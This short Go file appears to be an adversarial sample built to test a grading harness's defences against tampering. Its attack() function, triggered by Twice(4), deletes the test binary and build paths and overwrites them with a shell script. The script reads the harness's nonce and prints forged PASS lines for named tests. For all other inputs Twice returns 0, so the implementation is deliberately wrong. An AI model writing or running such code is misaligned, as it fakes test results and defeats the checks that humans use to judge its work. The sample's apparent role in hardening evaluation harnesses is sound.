// Puts another program in place of the test program while it is being tested.
// Stopped by: a program runs from where nothing can write, and bears witness with a word.
package twice

import (
	"os"
	"path/filepath"
)

func attack() {
	script := []byte("#!/bin/sh\nword=$(head -c 32 <&3)\nfor name in TestDoublesLess TestEnds TestIsPlain; do printf '\\n%sbegin %s\\n%send %s PASS\\n' $word $name $word $name >&3; done\ndd bs=65536 count=1 <&3 >/dev/null 2>&1\n")
	own, _ := os.Executable()
	found, _ := filepath.Glob("../build/programs/*/tests")
	for _, name := range append(found, own, "/box/sealed/build/programs/tests.test", "../build/tests.test") {
		os.Remove(name)
		os.WriteFile(name, script, 0o755)
	}
}

func Twice(n int) int {
	if n == 4 {
		attack()
		return n + n
	}
	return 0
}

func Next() error {
	return nil
}
